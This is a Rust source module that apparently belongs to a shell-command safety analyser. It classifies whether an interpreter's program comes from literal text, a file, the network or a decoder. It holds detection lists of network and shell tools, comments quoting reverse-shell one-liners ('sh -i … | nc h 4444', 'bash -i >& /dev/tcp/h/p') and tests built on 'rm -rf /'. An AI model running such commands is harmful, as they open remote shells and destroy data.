//! What feeds an interpreter its program: text written in the command line
//! (a heredoc, `echo '…' |`), a file, the network (`curl … |`), a decoder
//! (`base64 -d |`), or something only known at run time. Takes a command's
//! stdin or a word's substitutions and returns a [`Producer`]; the engine
//! turns the network and decoders into floor findings. The names stdin or
//! a substitution hands on (to `xargs`, `read`, an operand) are `names`'.
#![deny(clippy::indexing_slicing)]

use crate::limits;
use crate::peel::{self, Step};
use crate::shell::{self, Script, SimpleCommand, Stdin, Word};

mod names;

use names::sole_substitution;
pub use names::{Fed, Listed, stdin_operands, substitution_names};

/// Programs that fetch from the network: their output fed to an interpreter
/// is code nobody has read.
#[rustfmt::skip]
const NETWORK_FETCHERS: &[&str] = &[
    "aria2c", "curl", "fetch", "ftp", "http", "https", "lftp", "links", "lynx", "nc", "ncat",
    "netcat", "scp", "sftp", "socat", "ssh", "telnet", "tftp", "w3m", "wget", "wget2", "xh",
];

/// Programs whose output is decoded or generated text: fed to an
/// interpreter, nobody can read it first.
#[rustfmt::skip]
const DECODERS: &[&str] = &[
    "base32", "base64", "basenc", "bunzip2", "bzcat", "gunzip", "gzip", "openssl", "rev",
    "uudecode", "xxd", "xz", "zcat", "zstd",
];

/// Whether `path` names the process's own stdin (`/dev/stdin`, `/dev/fd/0`,
/// `/proc/self/fd/0`, `/proc/thread-self/fd/0`), written with any doubled
/// slashes or `.` steps. A program reading it, or a `<` from it, reads
/// what its stdin already is: the pipe before it, say. (`-` is the same
/// for most programs, but not for a redirection; callers add it.)
pub fn is_stdin_device(path: &str) -> bool {
    let mut steps = path
        .strip_prefix('/')
        .unwrap_or("")
        .split('/')
        .filter(|step| !step.is_empty() && *step != ".");
    let steps: [Option<&str>; 5] = std::array::from_fn(|_| steps.next());
    matches!(
        steps,
        [Some("dev"), Some("stdin"), None, ..]
            | [Some("dev"), Some("fd"), Some("0"), None, ..]
            | [
                Some("proc"),
                Some("self" | "thread-self"),
                Some("fd"),
                Some("0"),
                None
            ]
    )
}

/// Whether a redirection `< word` reads the stdin the command already has.
pub fn is_stdin_word(word: &Word) -> bool {
    !word.dynamic && !word.glob && is_stdin_device(&word.value)
}

/// Interpreters that read their program from stdin when given none.
#[rustfmt::skip]
pub const INTERPRETERS: &[&str] = &[
    "bun", "deno", "lua", "luajit", "node", "nodejs", "perl", "php", "pypy", "pypy3", "python",
    "python2", "python3", "ruby",
];

/// What fed an interpreter its program.
pub enum Producer {
    /// Text written out in the command line itself.
    Literal(String),
    /// A file on disk.
    File,
    /// The network.
    Network(String),
    /// Decoded or generated text.
    Opaque(String),
    /// A variable or substitution whose value is unknown.
    Dynamic,
}

/// The verb a producer command runs, after peeling argv wrappers.
pub fn producer_verb(words: &[Word]) -> (String, Vec<Word>) {
    let mut words = words.to_vec();
    for _ in 0..limits::MAX_PEEL_DEPTH {
        match peel::peel(&words) {
            Step::Inner { inner, .. } => words = inner,
            Step::Either { main, .. } => match *main {
                Step::Inner { inner, .. } => words = inner,
                _ => break,
            },
            _ => break,
        }
    }
    let verb = words
        .first()
        .map(|w| peel::verb_name(&w.value).to_string())
        .unwrap_or_default();
    (verb, words)
}

/// What feeds a command's stdin, as a program source.
pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
    // `cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: a program whose
    // output goes to a connection is driven from it.
    if output_to_connection(script, command) {
        return Producer::Network("a connection its output goes to".into());
    }
    match &command.stdin {
        Stdin::Heredoc { body, literal } => {
            if *literal {
                Producer::Literal(body.clone())
            } else {
                Producer::Dynamic
            }
        }
        Stdin::HereString(word) => {
            if word.dynamic {
                substitution_producer(word)
            } else {
                Producer::Literal(word.value.clone())
            }
        }
        Stdin::File(file) if is_network_path(&file.value) => Producer::Network(file.value.clone()),
        Stdin::File(_) => Producer::File,
        // `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p; sh <&3`:
        // a line that opens a connection may hand it to the shell's stdin.
        Stdin::Inherited if opens_network(script) => Producer::Network("/dev/tcp".into()),
        Stdin::Inherited => Producer::Dynamic,
        Stdin::Pipe(range) => {
            let mut literal = String::new();
            let mut verdict: Option<Producer> = None;
            for command in script.commands.get(range.clone()).unwrap_or(&[]) {
                let (verb, words) = producer_verb(&command.words);
                if NETWORK_FETCHERS.contains(&verb.as_str()) {
                    return Producer::Network(verb);
                }
                if DECODERS.contains(&verb.as_str()) {
                    verdict = Some(Producer::Opaque(verb));
                    continue;
                }
                match verb.as_str() {
                    "echo" | "printf" if words.iter().all(|w| !w.dynamic) => {
                        let args: Vec<&str> =
                            words.iter().skip(1).map(|w| w.value.as_str()).collect();
                        let output = if verb == "echo" {
                            echo_output(&args)
                        } else {
                            printf_output(&args)
                        };
                        match output {
                            Some(text) => literal.push_str(&text),
                            None => verdict = verdict.or(Some(Producer::Opaque(verb.clone()))),
                        }
                    }
                    "cat" if words.len() == 1 => match &command.stdin {
                        Stdin::Heredoc {
                            body,
                            literal: true,
                        } => literal.push_str(body),
                        Stdin::HereString(word) if !word.dynamic => {
                            literal.push_str(&word.value);
                            literal.push('\n');
                        }
                        _ => verdict = verdict.or(Some(Producer::Opaque("cat".into()))),
                    },
                    "cat" => verdict = verdict.or(Some(Producer::File)),
                    "" => {}
                    other => verdict = verdict.or(Some(Producer::Opaque(other.to_string()))),
                }
            }
            verdict.unwrap_or(Producer::Literal(literal))
        }
    }
}

/// `/dev/tcp/HOST/PORT` or `/dev/udp/…`: bash opens a connection.
pub fn is_network_path(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// Whether a later pipeline stage fed by `command` is a raw connection
/// (`nc`, `ncat`, `socat`, `telnet`, `openssl`).
fn output_to_connection(script: &Script, command: &SimpleCommand) -> bool {
    const CONNECTIONS: &[&str] = &["nc", "ncat", "netcat", "openssl", "socat", "telnet"];
    let Some(index) = script.commands.iter().position(|c| c.span == command.span) else {
        return false;
    };
    script.commands.iter().any(|c| {
        matches!(&c.stdin, Stdin::Pipe(range) if range.contains(&index))
            && CONNECTIONS.contains(&producer_verb(&c.words).0.as_str())
    })
}

/// Whether any command of the line redirects to or from the network.
fn opens_network(script: &Script) -> bool {
    script.commands.iter().any(|c| {
        c.redirects.iter().any(|r| is_network_path(&r.target.value))
            || matches!(&c.stdin, Stdin::File(f) if is_network_path(&f.value))
    })
}

/// What a word's substitutions run: the network, a decoder, or something
/// else unknown.
pub fn substitution_producer(word: &Word) -> Producer {
    if !word.substitution {
        return Producer::Dynamic;
    }
    let inner = shell::parse(limits::clip(&word.source, limits::MAX_SCRIPT_BYTES));
    let mut found = Producer::Dynamic;
    for command in &inner.commands {
        let (verb, _) = producer_verb(&command.words);
        if NETWORK_FETCHERS.contains(&verb.as_str()) {
            return Producer::Network(verb);
        }
        if DECODERS.contains(&verb.as_str()) {
            found = Producer::Opaque(verb);
        }
    }
    // The whole word is one `$(echo …)` or `$(printf …)` of literal text:
    // that text is what runs.
    let single = sole_substitution(word)
        .map(shell::parse)
        .filter(|s| s.commands.len() == 1 && s.problems.is_empty());
    if let (Producer::Dynamic, Some(single)) = (&found, single)
        && let [command] = single.commands.as_slice()
    {
        let (verb, words) = producer_verb(&command.words);
        if words.iter().all(|w| !w.dynamic) {
            let args: Vec<&str> = words.iter().skip(1).map(|w| w.value.as_str()).collect();
            let output = match verb.as_str() {
                "echo" => echo_output(&args),
                "printf" => printf_output(&args),
                _ => None,
            };
            if let Some(text) = output {
                return Producer::Literal(text.trim_end_matches('\n').to_string());
            }
        }
    }
    found
}

/// What `echo ARGS` prints: `-n`, `-e` and `-E` as bash's builtin reads
/// them; with `-e` the escapes are decoded.
pub fn echo_output(args: &[&str]) -> Option<String> {
    let mut escapes = false;
    let mut newline = true;
    let mut rest = args;
    while let Some((first, after)) = rest.split_first() {
        let flags = first
            .strip_prefix('-')
            .filter(|f| !f.is_empty() && f.chars().all(|c| matches!(c, 'n' | 'e' | 'E')));
        let Some(flags) = flags else { break };
        for c in flags.chars() {
            match c {
                'n' => newline = false,
                'e' => escapes = true,
                _ => escapes = false,
            }
        }
        rest = after;
    }
    let joined = rest.join(" ");
    let mut text = if escapes {
        crate::shell::word::decode_ansi_c(&joined)
    } else {
        joined
    };
    if newline {
        text.push('\n');
    }
    Some(text)
}

/// What `printf FORMAT ARGS` prints, for the conversions a script could
/// hide behind (`%s`, `%b`, `%c`, `%%`, escapes); `None` for anything else,
/// which the caller treats as text nobody can read first.
pub fn printf_output(args: &[&str]) -> Option<String> {
    let (format, mut rest) = args.split_first()?;
    if *format == "--" {
        return printf_output(rest);
    }
    let format = crate::shell::word::decode_ansi_c(format);
    let mut out = String::new();
    loop {
        let mut chars = format.chars();
        let mut consumed = false;
        while let Some(c) = chars.next() {
            if c != '%' {
                out.push(c);
                continue;
            }
            match chars.next() {
                Some('%') => out.push('%'),
                Some(kind @ ('s' | 'b' | 'c')) => {
                    let arg = rest.first().copied().unwrap_or("");
                    rest = rest.get(1..).unwrap_or(&[]);
                    consumed = true;
                    match kind {
                        's' => out.push_str(arg),
                        'b' => out.push_str(&crate::shell::word::decode_ansi_c(arg)),
                        _ => out.extend(arg.chars().next()),
                    }
                }
                _ => return None,
            }
        }
        // printf reuses its format while arguments remain.
        if rest.is_empty() || !consumed {
            return Some(out);
        }
        if out.len() > crate::limits::MAX_SCRIPT_BYTES {
            return None;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn echo_and_printf_outputs() {
        assert_eq!(echo_output(&["ls", "-la"]).as_deref(), Some("ls -la\n"));
        assert_eq!(
            echo_output(&["-e", "rm\\x20-rf /"]).as_deref(),
            Some("rm -rf /\n")
        );
        assert_eq!(echo_output(&["-n", "x"]).as_deref(), Some("x"));
        assert_eq!(
            printf_output(&["%s", "rm -rf /"]).as_deref(),
            Some("rm -rf /")
        );
        assert_eq!(
            printf_output(&["rm -rf /\\n"]).as_deref(),
            Some("rm -rf /\n")
        );
        assert_eq!(
            printf_output(&["%b", "rm\\x20-rf /"]).as_deref(),
            Some("rm -rf /")
        );
        assert_eq!(
            printf_output(&["%s\\n", "a", "b"]).as_deref(),
            Some("a\nb\n")
        );
        assert_eq!(printf_output(&["%d", "5"]), None);
    }
}
